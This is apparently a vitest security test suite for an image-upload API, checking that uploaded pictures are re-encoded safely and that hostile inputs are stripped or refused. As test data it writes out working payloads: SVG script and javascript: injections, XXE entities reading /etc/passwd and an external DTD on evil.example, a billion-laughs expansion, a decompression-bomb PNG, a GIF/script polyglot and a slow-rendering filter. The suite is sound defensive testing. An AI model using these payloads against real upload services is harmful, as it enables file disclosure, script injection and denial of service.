import { writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { ImageProblem } from '#contract/images.ts';
import { startTestProduct, type TestProduct } from '#test/harness/product.ts';
import { buildSite, buildWorld, type World } from '#test/harness/world.ts';

/** Stands in every payload: nothing that is kept may contain it. */
const MARK = 'alert("sayso-was-here")';
const RED = { r: 255, g: 0, b: 0 };

let product: TestProduct;
let nora: World;
let acme: World;
/** Somebody who waits for a request that must never come. */
let trap: Server;
let trapUrl: string;
let trapped = 0;
/** A red square among the files of this machine. */
const redFile = join(tmpdir(), `sayso-red-${process.pid}.png`);

beforeAll(async () => {
  product = await startTestProduct();
  nora = await buildWorld(product, 'nora');
  trap = createServer((_request, response) => {
    trapped += 1;
    response.end();
  });
  await new Promise<void>((resolve) => {
    trap.listen(0, '127.0.0.1', resolve);
  });
  trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  writeFileSync(redFile, await square(20).png().toBuffer());
});

beforeEach(async () => {
  acme = await buildSite(product, nora.owner, nora.params.organization_id);
});

afterAll(async () => {
  trap.close();
  await product.stop();
});

function square(size: number) {
  return sharp({
    create: { width: size, height: size, channels: 3, background: RED },
  });
}

/** Black, and a thousand times smaller than what it unpacks to. */
function emptyPng(size: number): Buffer {
  const chunk = (name: string, data: Buffer) => {
    const named = Buffer.concat([Buffer.from(name), data]);
    const framed = Buffer.alloc(named.length + 8);
    framed.writeUInt32BE(data.length);
    named.copy(framed, 4);
    framed.writeUInt32BE(crc32(named), framed.length - 4);
    return framed;
  };
  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0]);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  const rows = deflateSync(Buffer.alloc((1 + Math.ceil(size / 8)) * size));
  const signature = Buffer.from('89504e470d0a1a0a', 'hex');
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function svg(inner: string, before = ''): Buffer {
  return Buffer.from(
    `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 24" width="100" height="24">${inner}</svg>`,
  );
}

async function upload(bytes: Buffer, type = 'image/png', kind = 'logo') {
  const { organization_id, site_id } = acme.params;
  const response = await fetch(
    `${product.url}/api/core/v1/organizations/${organization_id}/sites/${site_id}/images?kind=${kind}`,
    {
      method: 'POST',
      headers: { authorization: `Bearer ${acme.owner.token}`, 'content-type': type },
      body: new Uint8Array(bytes),
    },
  );
  const body = (await response.json()) as {
    url: string;
    message: string;
    data: { problem: ImageProblem } | null;
    meta: { errors: { field: string }[] };
  };
  return { status: response.status, body };
}

async function storedImages(): Promise<{ bytes: Buffer; width: number; height: number }[]> {
  const { rows } = await product.testDatabase.owner.query(
    'select bytes, width, height from images where site_id = $1',
    [acme.site.id],
  );
  return rows;
}

/** The answer was 201, and what is kept is a picture of our own making with nothing of the payload in it. */
async function expectClean(answer: Awaited<ReturnType<typeof upload>>): Promise<Buffer> {
  expect(answer.status, answer.body.message).toBe(201);
  const [image] = await storedImages();
  if (image === undefined) throw new Error('Nothing is kept');
  const meta = await sharp(image.bytes).metadata();
  expect(meta).toMatchObject({ format: 'webp', width: image.width, height: image.height });
  expect(image.width).toBeLessThanOrEqual(800);
  expect(image.height).toBeLessThanOrEqual(192);
  const extras = [meta.exif, meta.icc, meta.xmp, meta.iptc, meta.comments, meta.pages];
  expect(extras.filter((extra) => extra !== undefined)).toEqual([]);
  // The RIFF header tells the length: nothing follows the picture.
  expect(image.bytes.readUInt32LE(4) + 8).toBe(image.bytes.length);
  expect(image.bytes.toString('latin1')).not.toMatch(/sayso-was-here|<script|<html|<svg|alert\(/i);
  return image.bytes;
}

async function expectRefused(
  answer: Awaited<ReturnType<typeof upload>>,
  problem: ImageProblem,
): Promise<void> {
  expect(answer.body.data, answer.body.message).toEqual({ problem });
  expect(answer.status).toBe(422);
  expect(answer.body.meta.errors).toMatchObject([{ code: 'invalid_field', field: 'body' }]);
  expect(answer.body.message).toMatch(/^body: .+\. [A-Z].+\.$/);
  expect(await storedImages()).toEqual([]);
}

async function hasRed(picture: Buffer): Promise<boolean> {
  const pixels = await sharp(picture).ensureAlpha().raw().toBuffer();
  for (let at = 0; at < pixels.length; at += 4) {
    if ((pixels[at] ?? 0) > 200 && (pixels[at + 1] ?? 255) < 60 && (pixels[at + 3] ?? 0) > 200) return true;
  }
  return false;
}

const GREEN = '<rect width="100" height="24" fill="#080"/>';

describe('an SVG', () => {
  it.each([
    ['a script', `<script>${MARK}</script>${GREEN}`],
    ['a script of somebody else', `<script href='https://evil.example/${MARK}'/>${GREEN}`],
    ['a handler', `<g onload='${MARK}' onclick='${MARK}'>${GREEN}</g>`],
    [
      'HTML inside',
      `<foreignObject width="100" height="24"><body xmlns="http://www.w3.org/1999/xhtml" onload='${MARK}'><iframe src="javascript:${encodeURI(MARK)}"/></body></foreignObject>${GREEN}`,
    ],
    ['a link that runs', `<a href='javascript:${MARK}'>${GREEN}</a>`],
    ['an animation of a link', `<a>${GREEN}<animate attributeName="href" values='javascript:${MARK}'/></a>`],
    ['a comment and CDATA', `<!-- ${MARK} --><desc><![CDATA[<script>${MARK}</script>]]></desc>${GREEN}`],
  ])('with %s is stored as a picture without it', async (_what, inner) => {
    await expectClean(await upload(svg(inner), 'image/svg+xml'));
  });

  it.each([
    ['a picture by http', () => `<image width="100" height="24" href="${trapUrl}/x.png"/>`],
    [
      'a picture by http in the old way',
      () => `<image width="100" height="24" xlink:href="${trapUrl}/x.png"/>`,
    ],
    ['a shape by http', () => `<use href="${trapUrl}/x.svg#a"/>`],
    [
      'a filter by http',
      () =>
        `<filter id="f"><feImage href="${trapUrl}/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    ],
    [
      'a style sheet by http',
      () => `<style>@import url(${trapUrl}/x.css); rect { fill: url(${trapUrl}/y.svg#a) }</style>${GREEN}`,
    ],
    [
      'a font by http',
      () =>
        `<style>@font-face { font-family: x; src: url(${trapUrl}/x.woff) }</style><text font-family="x" y="20">A</text>`,
    ],
    ['a picture of this machine', () => `<image width="100" height="24" href="file://${redFile}"/>`],
    [
      'a picture of this machine in the old way',
      () => `<image width="100" height="24" xlink:href="file://${redFile}"/>`,
    ],
    ['a path of this machine', () => `<image width="100" height="24" href="${redFile}"/>`],
    [
      'an included file',
      () =>
        `<text y="20" fill="#f00" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></text>`,
    ],
  ])('with %s is drawn without it: nothing is fetched or read', async (_what, inner) => {
    const picture = await expectClean(await upload(svg(inner()), 'image/svg+xml'));
    expect(await hasRed(picture)).toBe(false);
    expect(trapped).toBe(0);
  });

  it('may embed pictures', async () => {
    const data = (await square(8).png().toBuffer()).toString('base64');
    const inner = `<image width="24" height="24" href="data:image/png;base64,${data}"/>`;
    expect(await hasRed(await expectClean(await upload(svg(inner), 'image/svg+xml')))).toBe(true);
  });

  it.each([
    [
      'an entity that is a file',
      '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
      '<text>&x;</text>',
    ],
    [
      'an entity from elsewhere',
      '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
      GREEN,
    ],
    [
      'a billion laughs',
      `<!DOCTYPE svg [<!ENTITY a0 "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`).join('')}]>`,
      '<text>&a9;</text>',
    ],
  ])('with %s is rejected', async (_what, before, inner) => {
    await expectRefused(await upload(svg(inner, before), 'image/svg+xml'), 'svg_entities');
  });

  it('cannot hide these in another encoding', async () => {
    const text = svg(
      '<text>&x;</text>',
      '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ).toString();
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    await expectRefused(await upload(utf16, 'image/svg+xml'), 'not_an_image');
    const utf7 = `<?xml version="1.0" encoding="UTF-7"?>+ADwAIQBFAE4AVABJAFQAWQ-${GREEN}`;
    await expectRefused(await upload(Buffer.from(utf7), 'image/svg+xml'), 'not_an_image');
  });

  it.each<[string, () => Buffer, ImageProblem]>([
    ['20,000 groups deep', () => svg('<g>'.repeat(20_000) + '</g>'.repeat(20_000)), 'damaged'],
    [
      'a million pixels wide and high',
      () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="1000000" height="1000000"/>'),
      'too_many_pixels',
    ],
    ['600 kB long', () => svg(`<path d="${'M0 0 '.repeat(120_000)}"/>`), 'svg_too_long'],
    ['cut off', () => svg(GREEN).subarray(0, -12), 'damaged'],
    ['not one at all', () => Buffer.from('<html><body>Hello</body></html>'), 'not_an_image'],
  ])('that is %s is rejected', async (_what, bytes, problem) => {
    await expectRefused(await upload(bytes(), 'image/svg+xml'), problem);
  });

  it('that draws itself 10^20 times is rejected', async () => {
    const copies = Array.from(
      { length: 20 },
      (_, n) => `<g id="a${n + 1}">${`<use href="#a${n}"/>`.repeat(10)}</g>`,
    );
    const inner = `<defs><g id="a0"><rect width="1" height="1"/></g>${copies.join('')}</defs><use href="#a20"/>`;
    const answer = await upload(svg(inner), 'image/svg+xml');
    // Which limit it meets first depends on the machine.
    expect(['damaged', 'too_slow']).toContain(answer.body.data?.problem);
    expect(answer.status).toBe(422);
  });
});

describe('a picture', () => {
  it('that would fill the memory is rejected by its header', async () => {
    const bomb = emptyPng(20_000);
    expect(bomb.length).toBeLessThan(100_000);
    await expectRefused(await upload(bomb), 'too_many_pixels');
    // Inside a drawing the header is only seen by the decoder, whose process ends with its memory.
    const inner = `<image width="100" height="24" href="data:image/png;base64,${bomb.toString('base64')}"/>`;
    await expectRefused(await upload(svg(inner), 'image/svg+xml'), 'damaged');
  });

  it('whose header lies about its size is rejected', async () => {
    const png = await square(10).png().toBuffer();
    png.writeUInt32BE(0x7fffffff, 16);
    expect((await upload(png)).status).toBe(422);
    const gif = Buffer.from(
      '474946383961ffffffff8000000000000000ff2c00000000ffffffff000202440100 3b'.replaceAll(' ', ''),
      'hex',
    );
    expect((await upload(gif, 'image/gif')).status).toBe(422);
    expect(await storedImages()).toEqual([]);
  });

  it.each(['png', 'jpeg', 'webp', 'gif', 'avif'] as const)(
    'that is a truncated %s is rejected',
    async (format) => {
      const noise = sharp({
        create: {
          width: 300,
          height: 100,
          channels: 3,
          background: RED,
          noise: { type: 'gaussian', mean: 99, sigma: 60 },
        },
      });
      const whole = await noise.toFormat(format).toBuffer();
      for (const share of [0.1, 0.5, 0.9]) {
        await expectRefused(await upload(whole.subarray(0, Math.floor(whole.length * share))), 'damaged');
      }
      await expectClean(await upload(whole));
    },
  );

  it.each(['png', 'jpeg', 'webp', 'gif', 'avif'] as const)(
    'with HTML appended (%s) loses it',
    async (format) => {
      const tail = Buffer.from(`<html><script>${MARK}</script></html>`);
      await expectClean(await upload(Buffer.concat([await square(30).toFormat(format).toBuffer(), tail])));
    },
  );

  it('that is a GIF and a script at once is only a picture afterwards', async () => {
    const gif = await square(10).gif().toBuffer();
    // The width reads as the start of a comment: GIF89a/*…*/=1;alert(…)
    const both = Buffer.concat([
      gif.subarray(0, -1),
      Buffer.from(`\x21\xfe\x20*/=1;${MARK.padEnd(27)}\0;`, 'latin1'),
    ]);
    await expectClean(await upload(both, 'image/gif'));
  });

  it('with a script in its EXIF, its color profile and its comments loses them', async () => {
    const jpeg = await square(40)
      .withExif({ IFD0: { Copyright: `<script>${MARK}</script>`, ImageDescription: MARK } })
      .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><script>${MARK}</script></x:xmpmeta>`)
      .jpeg()
      .toBuffer();
    const comment = Buffer.from(`\xff\xfe\0\x40${`<script>${MARK}</script>`.padEnd(62)}`, 'latin1');
    const payload = Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]);
    expect(payload.toString('latin1').split('sayso-was-here').length).toBeGreaterThan(3);
    await expectClean(await upload(payload, 'image/jpeg'));
  });

  it('that is rotated in its EXIF stands upright afterwards', async () => {
    const lying = await sharp({ create: { width: 60, height: 20, channels: 3, background: RED } })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    await expectClean(await upload(lying, 'image/jpeg'));
    expect(await storedImages()).toMatchObject([{ width: 20, height: 60 }]);
  });

  it('of 10,000 frames becomes its first frame', async () => {
    const gif = await square(10).gif().toBuffer();
    const start = gif.indexOf(Buffer.from([0x2c, 0, 0, 0, 0]));
    const frame = gif.subarray(start, -1);
    const frames = Buffer.concat([
      gif.subarray(0, -1),
      ...Array.from({ length: 9_999 }, () => frame),
      Buffer.from(';'),
    ]);
    expect(await hasRed(await expectClean(await upload(frames, 'image/gif')))).toBe(true);
  });

  it('is treated as what its bytes say, whatever its content type', async () => {
    await expectClean(await upload(await square(10).jpeg().toBuffer(), 'image/png'));
    await expectRefusedElsewhere(Buffer.from(`<script>${MARK}</script>`), 'not_an_image');
    await expectRefusedElsewhere(Buffer.from('%PDF-1.7'), 'not_an_image');
    await expectRefusedElsewhere(await square(10).tiff().toBuffer(), 'not_an_image');
    await expectRefusedElsewhere(Buffer.from('1f8b0800', 'hex'), 'not_an_image');
    await expectRefusedElsewhere(Buffer.alloc(0), 'empty');
  });

  async function expectRefusedElsewhere(bytes: Buffer, problem: ImageProblem): Promise<void> {
    acme = await buildSite(product, nora.owner, nora.params.organization_id);
    await expectRefused(await upload(bytes), problem);
  }

  it('larger than 2 MB is rejected: 413; with another content type: 415', async () => {
    const answer = await upload(Buffer.alloc(2 * 1024 * 1024 + 1));
    expect(answer).toMatchObject({ status: 413, body: { message: expect.stringContaining('2 MB') } });
    for (const type of ['text/html', 'application/json', 'image/tiff', 'multipart/form-data; boundary=x']) {
      expect((await upload(Buffer.from('{}'), type)).status).toBe(415);
    }
  });
});

describe('under load', () => {
  it('a drawing that would take minutes is abandoned, and everybody else is answered at once', async () => {
    const turbulence = '<feTurbulence baseFrequency="0.9" numOctaves="10"/>'.repeat(400);
    const slow = svg(
      `<filter id="f" x="0" y="0" width="1" height="1">${turbulence}</filter><rect width="100" height="24" filter="url(#f)"/>`,
    );
    const attack = Array.from({ length: 4 }, () => upload(slow, 'image/svg+xml'));
    let isOver = false;
    const done = Promise.all(attack).finally(() => (isOver = true));
    const waits: number[] = [];
    while (!isOver) {
      const began = performance.now();
      expect((await fetch(`${product.url}/healthz`)).status).toBe(200);
      const page = await fetch(`${product.url}/api/public/v1/preference-pages/preferences`, {
        headers: { 'x-site-domain': acme.site.domain_name },
      });
      await page.text();
      waits.push(performance.now() - began);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    for (const answer of await done) await expectRefused(answer, 'too_slow');
    expect(waits.length).toBeGreaterThan(20);
    expect(waits.toSorted((a, b) => a - b)[Math.floor(waits.length * 0.9)]).toBeLessThan(500);
    await expectClean(await upload(await square(10).png().toBuffer()));
  }, 60_000);
});
